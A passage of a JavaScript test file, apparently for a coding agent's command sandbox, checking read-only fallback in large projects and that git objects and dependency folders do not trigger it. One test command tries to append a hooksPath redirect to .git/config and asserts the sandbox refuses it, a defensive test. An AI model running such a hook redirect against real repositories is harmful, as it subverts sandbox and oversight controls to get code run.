  for (let i = 0; i < 400; i++) writeFileSync(join(big, `f${i}.py`), "");
  const { r, out } = await sh(f.sb, f.project, "touch x");
  assert.equal(r.exitCode, 1);
  assert.match(out, /Read-only file system/);
  assert.ok(!existsSync(join(f.project, "x")));
  const why = r.notes.find((n) => n.includes("READ-ONLY"));
  assert.ok(why, r.notes.join("\n"));
  assert.match(why, /although the permission mode allows writes: the project has more than 300 entries/);
  assert.match(why, /PI_SANDBOX_SCAN_ENTRIES/);
  // Every command says it, not only the first: each one is a sandbox of its own.
  const again = await sh(f.sb, f.project, "true");
  assert.ok(again.r.notes.some((n) => n.includes("PI_SANDBOX_SCAN_ENTRIES")), again.r.notes.join("\n"));
});

test("a large repository whose bulk is git's objects and dependency trees stays writable in a writable mode", async (t) => {
  if (skipWithoutSandbox(t)) return;
  withEnv(t, "PI_SANDBOX_SCAN_ENTRIES", "300");
  const f = await makeFixture(t, { workspaceWritable: true });
  writeFileSync(join(f.project, ".gitignore"), "node_modules\n");
  mkdirSync(join(f.project, ".git", "objects", "ab"), { recursive: true });
  writeFileSync(join(f.project, ".git", "config"), "[core]\n");
  for (let i = 0; i < 400; i++) writeFileSync(join(f.project, ".git", "objects", "ab", `${i}`.padStart(38, "0")), "");
  mkdirSync(join(f.project, "node_modules", "dep"), { recursive: true });
  for (let i = 0; i < 400; i++) writeFileSync(join(f.project, "node_modules", "dep", `m${i}.js`), "");
  const { r, out } = await sh(f.sb, f.project, "touch x && echo wrote; echo '[core] hooksPath=/tmp' >> .git/config || echo git-refused");
  assert.equal(r.exitCode, 0, out);
  assert.match(out, /wrote\n/);
  assert.match(out, /git-refused/);
  assert.ok(existsSync(join(f.project, "x")));
  assert.equal(readFileSync(join(f.project, ".git", "config"), "utf8"), "[core]\n");
  // Nor is the secret scan cut short by git's objects (the secrets walk of .git skips them).
  assert.deepEqual(r.notes, []);
});
